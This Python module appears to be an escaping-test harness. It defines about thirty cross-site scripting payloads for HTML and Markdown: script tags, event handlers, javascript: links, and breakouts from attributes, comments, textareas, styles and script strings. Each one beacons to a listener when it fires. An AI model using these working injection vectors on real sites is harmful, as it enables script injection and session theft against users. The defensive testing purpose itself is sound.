"""Text that acts when a page takes it for anything but text: each says so when it does."""

from __future__ import annotations

from dataclasses import dataclass


@dataclass(frozen=True)
class Payload:
    """One way to smuggle something into a page.

    Attributes
    ----------
    name : str
        What it says when it acts.
    template : str
        The text; `RUN` stands for a script, `LOAD` for an address, both of which tell.
    home : str
        A page without escaping in which it acts; `TEXT` stands for the text.
    is_script : bool
        False where nothing runs: the page only loads something, or goes somewhere else.
    """

    name: str
    template: str
    home: str = "<body><p>TEXT</p>"
    is_script: bool = True

    def text(self, listener: str) -> str:
        """Return the text that tells the listener at this address."""
        load = f"{listener}/acted/{self.name}"
        mark = f"top.document.documentElement.setAttribute('data-acted-{self.name}','')"
        # Without blanks, which Markdown's links do not take; a value would replace the page.
        run = f"{mark};fetch('{load}',{{mode:'no-cors'}});void(0)"
        return self.template.replace("RUN", run).replace("LOAD", load)

    def page(self, listener: str, head: str = "") -> str:
        """Return a whole page that shows the text without escaping it."""
        body = self.home.replace("TEXT", self.text(listener))
        return f"<!DOCTYPE html><html><head><meta charset=utf-8>{head}</head>{body}</html>"


PAYLOADS = (
    Payload("script", "<script>RUN</script>"),
    Payload("image-error", '<img src="x" onerror="RUN">'),
    Payload("svg-load", '<svg onload="RUN"></svg>'),
    Payload("details", '<details open ontoggle="RUN">x</details>'),
    Payload("frame", '<iframe srcdoc="<script>RUN</script>"></iframe>'),
    Payload("frame-address", '<iframe src="javascript:RUN"></iframe>'),
    Payload("video", '<video><source onerror="RUN"></video>'),
    Payload("animation", '<svg><animate onbegin="RUN" attributeName="x" dur="1s"></svg>'),
    Payload("link", '<a href="javascript:RUN">a link</a>'),
    Payload("svg-link", '<svg><a href="javascript:RUN"><text y="9">a link</text></a></svg>'),
    Payload("form", '<form action="javascript:RUN"><button>a button</button></form>'),
    Payload("out-of-title", "</title><script>RUN</script>", "<title>TEXT</title>"),
    Payload("out-of-code", "</code></pre><script>RUN</script>", "<pre><code>TEXT</code></pre>"),
    Payload("out-of-attribute", '"><script>RUN</script>', '<i title="TEXT">x</i>'),
    Payload("out-of-quotes", "'><script>RUN</script>", "<i title='TEXT'>x</i>"),
    Payload("handler", '" autofocus tabindex="1" onfocus="RUN', '<i title="TEXT">x</i>'),
    Payload("out-of-comment", "--><script>RUN</script>", "<!-- TEXT -->"),
    Payload("out-of-text-area", "</textarea><script>RUN</script>", "<textarea>TEXT</textarea>"),
    Payload("out-of-style", "</style><script>RUN</script>", "<style>TEXT</style>"),
    Payload(
        "out-of-data",
        "</script><script>RUN</script>",
        '<script type="application/json">{"a": "TEXT"}</script>',
    ),
    Payload("out-of-string", '";RUN;"', '<script>var name = "TEXT";</script>'),
    Payload("picture", '<img src="LOAD">', is_script=False),
    Payload("style-sheet", '<link rel="stylesheet" href="LOAD">', is_script=False),
    Payload("style", "<style>@import url('LOAD');</style>", is_script=False),
    Payload("elsewhere", '<meta http-equiv="refresh" content="0;url=LOAD">', is_script=False),
)


def markdown_payloads() -> tuple[Payload, ...]:
    """Return payloads that act once Markdown has made HTML of them."""
    texts = {
        "markdown-link": "[a link](javascript:RUN)",
        "markdown-image": "![x](LOAD)",
        "markdown-address": "<javascript:RUN>",
        "markdown-mathematics": "$$\n<script>RUN</script>\n$$",
        "markdown-environment": "\\begin{align}\n<script>RUN</script>\n\\end{align}",
        "markdown-fence": "```\n```\n<script>RUN</script>",
        "markdown-indented": "\n\n\x0b<script>RUN</script>\n\u2028<script>RUN</script>",
        "markdown-reference": "[a link][1]\n\n[1]: javascript:RUN",
    }
    return tuple(Payload(name, text) for name, text in texts.items())


def all_texts(listener: str) -> str:
    """Return all payloads in one text."""
    return "\n".join(payload.text(listener) for payload in (*PAYLOADS, *markdown_payloads()))
